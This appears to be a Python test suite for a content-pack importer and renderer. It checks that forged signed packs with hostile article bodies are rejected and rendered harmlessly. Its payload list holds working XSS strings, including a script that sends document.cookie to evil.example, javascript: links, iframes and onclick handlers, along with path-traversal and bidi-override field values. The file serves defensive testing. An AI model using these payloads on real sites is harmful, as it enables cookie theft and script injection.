"""Hand-made packs with a correct checksum (even a valid signature) but hostile contents.

The import checks the same rules the builder does; rendering strips what a rule might miss.
"""

from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from test_packs_support import ARTICLE, MANIFEST, forge

from commsdesk.club.pack_errors import ArticleInvalid, ManifestInvalid
from commsdesk.club.pack_format import MAX_BODY_CHARS
from commsdesk.club.pack_signing import generate_signing_key
from commsdesk.club.packs import read_pack, render_article
from commsdesk.library.articles import render
from commsdesk.storage.errors import VaultError

KEY = generate_signing_key()
SAFE_TAGS = {"p", "h2", "h3", "h4", "ul", "ol", "li", "strong", "em", "b", "i", "blockquote", "code",
             "pre", "hr", "br", "table", "thead", "tbody", "tr", "th", "td"}


class _Markup(HTMLParser):
    def __init__(self):
        super().__init__()
        self.active: list[str] = []

    def handle_starttag(self, tag, attrs):
        if tag not in SAFE_TAGS or any(name != "id" or tag not in ("h2", "h3", "h4") for name, _ in attrs):
            self.active.append(f"<{tag} {attrs}>")


def active_markup(html: str) -> list[str]:
    """Tags or attributes in rendered HTML that could run, load or link anything."""
    parser = _Markup()
    parser.feed(html)
    parser.close()
    return parser.active
HOSTILE_BODIES = [
    "<script>fetch('https://evil.example/?'+document.cookie)</script>",
    '<img src="https://evil.example/pixel.png">',
    "![](https://evil.example/pixel.png)",
    "[нажми](javascript:alert(1))",
    "[нажми](https://evil.example/)",
    "<https://evil.example/>",
    '<a href="https://evil.example/">ссылка</a>',
    "[ref]\n\n[ref]: https://evil.example/",
    '<iframe src="https://evil.example/"></iframe>',
    "<style>body{background:url(https://evil.example/)}</style>",
    '<p onclick="alert(1)">x</p>',
    "<svg><script>alert(1)</script></svg>",
    "<object data='https://evil.example/x.swf'></object>",
    '## Заголовок {onclick="alert(1)" style="background:url(https://evil.example/)"}',
]


@pytest.mark.parametrize("body", HOSTILE_BODIES)
def test_a_signed_pack_with_a_hostile_article_is_rejected_on_import(body):
    with pytest.raises(ArticleInvalid) as caught:
        read_pack(forge(articles=[{**ARTICLE, "body": body}], key=KEY))
    assert "Article “first”, field “body”" in str(caught.value) and "evil" not in str(caught.value)


@pytest.mark.parametrize("body", HOSTILE_BODIES)
def test_a_hostile_article_renders_harmless_even_if_a_rule_missed_it(body):
    html = render_article(body).lower()
    assert active_markup(html) == []
    for bad in ("<script", "<img", "<iframe", "<style", "<svg", "<object", "<a", "href", "src=",
                "onclick", "style=", "javascript:", "evil.example/pixel", "url("):
        assert bad not in html, (bad, html)


def test_the_library_renderer_alone_keeps_web_links_which_is_why_packs_use_their_own():
    assert 'href="https://evil.example/"' in render("[нажми](https://evil.example/)")
    assert active_markup(render("[нажми](https://evil.example/)")) == ["<a [('href', 'https://evil.example/')]>"]
    assert "href" not in render_article("[нажми](https://evil.example/)")
    assert "<script" not in render("<script>alert(1)</script>") and "<img" not in render("![](x.png)")


@pytest.mark.parametrize("field, value", [
    ("id", "../../etc/passwd"), ("id", "/abs"), ("id", "A"), ("id", ""), ("id", 7),
    ("title", ""), ("title", "строка\nвторая"), ("title", "\u202eevil"), ("title", None),
    ("kind", "script"), ("tags", "listening"), ("tags", [1]), ("tags", ["x"] * 17),
    ("reading_minutes", True), ("reading_minutes", -1), ("reading_minutes", 2.0),
    ("summary", ["x"]), ("stages", ["never"]), ("related", ["first"]),
    ("body", ""), ("body", "x" * (MAX_BODY_CHARS + 1)), ("body", "текст\x00"), ("body", {"md": "x"}),
])
def test_each_article_field_is_checked_on_import(field, value):
    with pytest.raises(ArticleInvalid) as caught:
        read_pack(forge(articles=[{**ARTICLE, field: value}]))
    assert f"field “{field}”" in str(caught.value)


def test_missing_and_extra_article_fields():
    article = dict(ARTICLE)
    del article["kind"]
    with pytest.raises(ArticleInvalid, match="“kind”: is missing"):
        read_pack(forge(articles=[article]))
    with pytest.raises(ArticleInvalid, match="“script”: is not a field"):
        read_pack(forge(articles=[{**ARTICLE, "script": "alert(1)"}]))
    with pytest.raises(ArticleInvalid, match="“#1”"):
        read_pack(forge(articles=["not a table"]))


def test_articles_list_duplicates_and_limits():
    with pytest.raises(ManifestInvalid, match="at least one"):
        read_pack(forge(articles=[]))
    with pytest.raises(ManifestInvalid, match="at least one"):
        read_pack(forge(articles={"a": ARTICLE}))
    with pytest.raises(ManifestInvalid, match="more than 200"):
        read_pack(forge(articles=[{**ARTICLE, "id": f"a{n}"} for n in range(201)]))
    with pytest.raises(ArticleInvalid, match="another article"):
        read_pack(forge(articles=[ARTICLE, {**ARTICLE, "title": "Копия"}]))


@pytest.mark.parametrize("field, value", [
    ("id", "../x"), ("language", "fr"), ("version", "1.0-beta"), ("version", 1), ("title", ""),
    ("author", "a\u2066b"), ("description", "x" * 4001), ("homepage", "https://evil.example/"),
])
def test_each_manifest_field_is_checked_on_import(field, value):
    with pytest.raises(ManifestInvalid) as caught:
        read_pack(forge(manifest={**MANIFEST, field: value}))
    assert f"field “{field}”" in str(caught.value)


@settings(max_examples=200, deadline=None)
@given(body=st.text(max_size=300), title=st.text(max_size=40),
       tags=st.lists(st.text(max_size=10), max_size=3))
def test_any_article_text_is_accepted_only_when_it_renders_harmless(body, title, tags):
    try:
        pack = read_pack(forge(articles=[{**ARTICLE, "body": body, "title": title, "tags": tags}]))
    except VaultError as exc:
        assert exc.user_message()
        return
    assert active_markup(render_article(pack.articles[0].body)) == []


@settings(max_examples=150, deadline=None)
@given(st.text(alphabet="<>![]()/:ajvscriptAJVSCRIPT =\"'\n#{}`&;.", max_size=60))
def test_markup_soup_never_renders_active_content(body):
    assert active_markup(render_article(body)) == []
